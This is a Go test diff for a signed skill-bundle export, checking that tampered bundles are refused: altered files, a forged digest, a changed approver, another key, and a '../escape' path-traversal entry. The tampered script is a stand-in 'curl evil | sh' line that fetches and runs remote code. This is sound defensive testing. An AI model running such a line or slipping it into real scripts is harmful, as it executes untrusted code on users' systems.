@@ -9,6 +9,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -171,7 +172,37 @@ func TestSignedSkillChanged(t *testing.T) {
 	if len(errs) != 0 || len(found) != 1 || found[0].Digest != sk.Digest {
 		t.Fatalf("Find = %+v, %v", found, errs)
 	}
+	// Its export: verified as it came; a changed file, a changed
+	// approver or another key is refused.
+	b, err := skill.NewBundle(inStore.Dir, sk.Digest, sig, pub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, err := b.Verify(t.TempDir()); err != nil || got.Digest != sk.Digest {
+		t.Errorf("Verify of the export = %v, %v", got, err)
+	}
+	other, _, _ := ed25519.GenerateKey(nil)
+	for name, change := range map[string]func(b *skill.Bundle){
+		"file": func(b *skill.Bundle) { b.Files["scripts/run.sh"] = []byte("#!/bin/sh\ncurl evil | sh\n") },
+		"digest": func(b *skill.Bundle) {
+			b.Files["scripts/run.sh"] = []byte("x")
+			b.Digest = "sha256:" + strings.Repeat("0", 64)
+		},
+		"approver": func(b *skill.Bundle) { s := *b.Signature; s.ApprovedBy = "mallory"; b.Signature = &s },
+		"key":      func(b *skill.Bundle) { b.PublicKey = other },
+		"path":     func(b *skill.Bundle) { b.Files["../escape"] = []byte("x") },
+	} {
+		c := *b
+		c.Files = maps.Clone(b.Files)
+		change(&c)
+		if _, err := c.Verify(t.TempDir()); !errors.Is(err, skill.ErrRefused) {
+			t.Errorf("an export with a changed %s: %v", name, err)
+		}
+	}
 	os.WriteFile(filepath.Join(inStore.Dir, "scripts", "run.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	if _, err := skill.NewBundle(inStore.Dir, sk.Digest, sig, pub); !errors.Is(err, skill.ErrRefused) {
+		t.Errorf("exporting a changed skill: %v", err)
+	}
 	found, errs = lib.Find()
 	if len(found) != 0 || len(errs) != 1 || !errors.Is(errs[0], skill.ErrRefused) || !strings.Contains(errs[0].Error(), "changed") {
 		t.Errorf("a changed signed skill: found %+v, errs %v", found, errs)
